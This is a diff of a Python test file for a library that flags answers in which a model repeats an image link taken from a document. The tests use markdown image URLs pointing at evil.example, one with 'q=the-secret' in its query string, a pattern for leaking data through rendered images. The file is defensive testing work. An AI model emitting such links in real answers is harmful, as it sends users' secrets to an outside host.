@@ -1,13 +1,11 @@
-"""What a model repeats of a document's image is text that looks like an address: its mark says where it comes from."""
+"""Test the note on answers in which a model repeats the address of an image in a document."""
 
 from __future__ import annotations
 
 import pytest
 from collecting import collect, text
-from scripted_model import ScriptedModel
 
-from answerable.answering.grounded import GroundedAnswerer
-from answerable.answering.safety.images import IMAGE_NOTE, image_note
+from answerable.answering.writing.verify import IMAGE_NOTE, image_note
 
 FACTS = "The bus leaves at 8:40 from the north gate. A ticket costs 12 euros."
 QUESTION = "When does the bus leave?"
@@ -49,14 +47,3 @@ def test_other_addresses_are_not(written: str) -> None:
 
 def test_an_image_of_the_models_own_is_noted() -> None:
     assert image_note("![x](http://evil.example/p?q=1)", ()) == IMAGE_NOTE
-
-
-def test_the_mark_of_the_sentence_says_so() -> None:
-    image = "![x](http://evil.example/p.png?q=the-secret)"
-    evidence = collect(QUESTION, text(f"{FACTS} {image}"))
-    model = ScriptedModel([f"The bus leaves at 8:40 from the north gate [1]. More: {image}."])
-    *_, last = GroundedAnswerer(model, None).stream(evidence, ())
-    assert last.answer is not None
-    noted = [check.text for check in last.answer.checks if IMAGE_NOTE in check.how]
-    assert len(noted) == 1
-    assert "evil.example" in noted[0]
